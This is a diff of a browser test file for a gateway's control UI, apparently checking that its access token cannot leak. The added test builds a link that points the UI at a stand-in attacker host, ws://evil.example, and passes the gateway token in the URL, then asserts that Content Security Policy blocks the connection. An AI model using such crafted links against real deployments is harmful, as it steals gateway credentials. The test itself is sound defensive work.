@@ -6,6 +6,7 @@ import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import { openPage, startBrowser } from "../../support/browser.mjs";
+import { Stranger } from "../../support/stranger.mjs";
 import { eventually } from "../../support/waiting.mjs";
 import { world } from "../../support/world.mjs";
 
@@ -21,7 +22,7 @@ describe("Control UI", () => {
   before(async () => {
     const root = join(installation, "node_modules/openclaw/dist/control-ui");
     await gateway.command(["config", "set", "gateway.controlUi.root", root]);
-    browser = await startBrowser(installation);
+    browser = await startBrowser();
     seen = await openPage(browser);
     page = seen.page;
   });
@@ -114,6 +115,32 @@ describe("Control UI", () => {
     await say("hello again");
     await paragraph(/^You said: hello again$/).waitFor();
     assert.equal(await isMarked(), true);
+  });
+
+  test("sends its token nowhere else, whatever a link says and who believes it", async () => {
+    const stranger = await Stranger.start();
+    const misled = await openPage(browser);
+    try {
+      const link = new URL(gateway.httpUrl);
+      link.searchParams.set("gatewayUrl", `ws://evil.example:${stranger.port}`);
+      link.hash = `token=${gateway.token}`;
+      await misled.page.goto(link.href);
+      await misled.page.getByRole("button", { name: /^Switch to evil\.example/ }).click();
+      const secret = misled.page.getByLabel("Gateway secret").first();
+      const refused = () => misled.errors.some((error) => error.includes("Content Security Policy"));
+      const isAsked = () => secret.isVisible();
+      await eventually("question for the secret", async () => refused() || isAsked());
+      if (!refused()) {
+        await secret.fill(gateway.token);
+        await misled.page.getByRole("button", { name: "Connect" }).click();
+      }
+
+      await eventually(() => `refusal; it saw ${misled.errors}`, refused);
+      assert.equal(stranger.told.length, 0);
+    } finally {
+      await misled.page.close();
+      stranger.close();
+    }
   });
 
   test("stops an answer", async () => {
